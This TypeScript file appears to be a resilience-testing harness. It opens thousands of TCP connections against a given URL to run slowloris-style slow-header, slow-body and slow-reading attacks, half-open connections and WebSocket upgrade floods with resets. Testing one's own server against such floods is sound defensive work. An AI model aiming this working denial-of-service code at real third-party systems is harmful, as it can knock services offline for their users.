/**
 * A process of attackers of one kind: `node scripts/attacks/Attackers.ts KIND COUNT URL`. It says when all are at work, and
 * goes on until it is killed; what is closed is opened anew.
 */
import { randomBytes } from "node:crypto"
import { connect, type Socket } from "node:net"
import { fileURLToPath } from "node:url"

const upgrade = () =>
  [
    "GET /ws/public HTTP/1.1",
    "Host: g",
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    `Sec-WebSocket-Key: ${randomBytes(16).toString("base64")}`,
    "\r\n"
  ].join("\r\n")

interface Attack {
  /** Connections, unless the caller says otherwise. */
  readonly count: number
  readonly first: () => string
  /** Sent every second. */
  readonly drip?: string
  readonly reads?: false
  /** Resets the connection as soon as anything is answered. */
  readonly resets?: true
}

export const attacks = {
  "slow-headers": { count: 1_000, first: () => "GET / HTTP/1.1\r\nHost: g\r\n", drip: "X: y\r\n" },
  "slow-body": {
    count: 1_000,
    first: () => "POST /api/v1/authorize HTTP/1.1\r\nHost: g\r\nContent-Length: 100000\r\n\r\n{",
    drip: " "
  },
  "slow-reading": { count: 200, first: () => "GET /swagger-ui HTTP/1.1\r\nHost: g\r\n\r\n".repeat(4), reads: false },
  "half-open": { count: 5_000, first: () => "" },
  resets: { count: 10_000, first: upgrade, resets: true }
} as const satisfies Record<string, Attack>
export type Kind = keyof typeof attacks

/** Connections under way at once: those of `resets`, and those being opened of the others. */
const AT_ONCE = 100
/** Where attackers are: not the address of the good client. */
const FROM = "127.0.0.2"
/** How often connections are looked at, in ms. */
const DRIP_MS = 1_000

const run = (kind: Kind, count: number, url: URL): void => {
  const attack: Attack = attacks[kind]
  const open = new Set<Socket>()
  let opening = 0
  let opened = 0
  const fill = () => {
    const most = attack.resets === true ? Math.min(AT_ONCE, count - opened) : count
    for (let room = Math.min(most - open.size, AT_ONCE - opening); room > 0; room--) begin()
  }
  const begin = () => {
    opening++
    const socket = connect({ host: url.hostname, port: Number(url.port), localAddress: FROM })
    open.add(socket)
    let isOpening = true
    const settled = () => {
      if (isOpening) opening--
      isOpening = false
    }
    socket.once("connect", () => {
      settled()
      opened++
      // those that do not stay are at work from the first on
      if (opened === (attack.resets === true ? 1 : count)) process.send?.({ opened })
      const first = attack.first()
      if (first !== "") socket.write(first)
      if (attack.reads === false) socket.pause()
      setImmediate(fill)
    })
    if (attack.reads !== false) socket.on("data", () => attack.resets === true && socket.resetAndDestroy())
    socket.on("error", () => {})
    socket.once("close", () => {
      settled()
      open.delete(socket)
      setImmediate(fill)
    })
  }
  const { drip } = attack
  setInterval(() => {
    if (drip !== undefined) for (const socket of open) if (socket.writable) socket.write(drip)
    fill()
  }, DRIP_MS)
  fill()
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [kind, count, url] = process.argv.slice(2) as [Kind, string, string]
  process.once("disconnect", () => process.exit())
  run(kind, Number(count), new URL(url))
}
